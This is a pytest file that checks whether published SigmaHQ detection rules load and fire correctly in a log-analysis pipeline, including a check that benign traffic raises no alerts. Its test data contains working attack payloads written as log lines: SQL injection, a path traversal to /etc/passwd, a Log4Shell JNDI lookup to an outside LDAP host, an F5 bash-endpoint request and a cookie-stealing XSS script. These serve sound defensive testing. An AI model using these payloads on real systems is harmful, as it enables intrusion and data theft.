"""Rules from the public SigmaHQ repository (tests/cyber/data/sigmahq: every web server rule
and every sshd/auth rule, byte for byte as published) run unmodified through insa's
pipeline: all 90 load and compile; attack lines in the real formats match the rules written
for them (the Sigma taxonomy's ``cs-method``, ``cs-uri-query``, ``sc-status`` mapped to the
events' fields, keywords searched in the raw message case-insensitively); benign traffic
at volume matches none of them."""

from __future__ import annotations

import datetime as dt
from pathlib import Path

import pytest

from insa.cyber import sigma
from insa.cyber.ecs import from_object
from insa.cyber.sigma import Engine

from . import events_gen as gen

HQ = Path(__file__).parent / "data" / "sigmahq"
AT = dt.datetime(2026, 12, 2, 1, 0, tzinfo=dt.UTC)

SQLI = "5513deaf-f49a-46c2-a6c8-3f111b5cb453"
TRAVERSAL = "7745c2ea-24a5-4290-b680-04359cb84b35"
JNDI = "412d55bc-7737-4d25-9542-5b396867ce55"
F5 = "85254a62-22be-4239-b79c-2ec17e566c37"
XSS = "65354b83-a2ea-4ea6-8414-3ab38be0d409"
SSHD_SUSP = "e76b413a-83d0-4b94-8e4c-85db4a5b8bdc"
CVE_2018_15473 = "4c9d903d-4939-4094-ade0-3cb748f4d7da"


@pytest.fixture(scope="module")
def hq() -> sigma.RuleSet:
    found = sigma.load([HQ])
    assert not found.problems, found.problems[:3]
    return found


def test_every_published_rule_loads_and_compiles(hq: sigma.RuleSet) -> None:
    assert len(hq.rules) == 90 and len(list(HQ.rglob("*.yml"))) == 90


def _matches(hq: sigma.RuleSet, fmt: str, line: str) -> set[str]:
    e = from_object({"organization.id": "MPM", "log.format": fmt, "message": line, "@timestamp": "2026-12-02T01:00:00Z"},
                    None, AT)  # fmt: skip
    return {a.rule for a in Engine(hq).feed(1, e)}


@pytest.mark.parametrize(
    ("method", "target", "status", "ua", "rule"),
    [
        (
            "GET",
            "/board/view.do?id=1%20UNION%20SELECT%20user_id,passwd%20FROM%20members--",
            200,
            "sqlmap/1.7",
            SQLI,
        ),
        (
            "GET",
            "/board/view.do?id=1 union select password from users",
            500,
            "curl/8.0",
            SQLI,
        ),  # case-insensitive
        ("GET", "/download.do?file=../../../etc/passwd", 200, "curl/8.0", TRAVERSAL),
        (
            "GET",
            "/api/${jndi:ldap://198.51.100.9:1389/Basic/Command/Base64/d2hvYW1p}",
            400,
            "curl/8.0",
            JNDI,
        ),
        ("POST", "/mgmt/tm/util/bash", 200, "python-requests/2.31", F5),
        ("GET", "/search.do?q=<script>alert(document.cookie)</script>", 200, "Mozilla/5.0", XSS),
    ],
)
def test_attack_lines_match_their_rules(
    hq: sigma.RuleSet, method: str, target: str, status: int, ua: str, rule: str
) -> None:
    line = gen.nginx_line(AT, "203.0.113.50", method, target, status, 321, ua)
    assert rule in _matches(hq, "nginx", line)


def test_the_rules_own_filters_hold(hq: sigma.RuleSet) -> None:
    # the SQL injection rule leaves 404s out, the F5 rule wants POST
    assert SQLI not in _matches(
        hq, "nginx", gen.nginx_line(AT, "203.0.113.50", "GET", "/x?id=1 UNION SELECT 1", 404)
    )
    assert F5 not in _matches(
        hq, "nginx", gen.nginx_line(AT, "203.0.113.50", "GET", "/mgmt/tm/util/bash", 200)
    )


def test_sshd_keyword_rules(hq: sigma.RuleSet) -> None:
    line = gen.sshd_line(AT, "gw1", "Corrupted MAC on input. [preauth]")
    assert SSHD_SUSP in _matches(hq, "sshd", line)
    line = gen.sshd_line(
        AT,
        "gw1",
        "error: buffer_get_ret: trying to get more bytes 1907 than in buffer 308 [preauth]",
    )
    assert CVE_2018_15473 in _matches(hq, "sshd", line)
    assert not _matches(
        hq,
        "sshd",
        gen.sshd_line(AT, "gw1", "Accepted publickey for kim from 10.0.0.4 port 5000 ssh2"),
    )


def test_benign_traffic_matches_none_of_them(hq: sigma.RuleSet) -> None:
    engine = Engine(hq)
    hits = []
    for n, doc in enumerate(gen.noise(20_000, seed=3)):
        hits += [a.rule for a in engine.feed(n, from_object(doc, None, AT))]
    assert hits == []
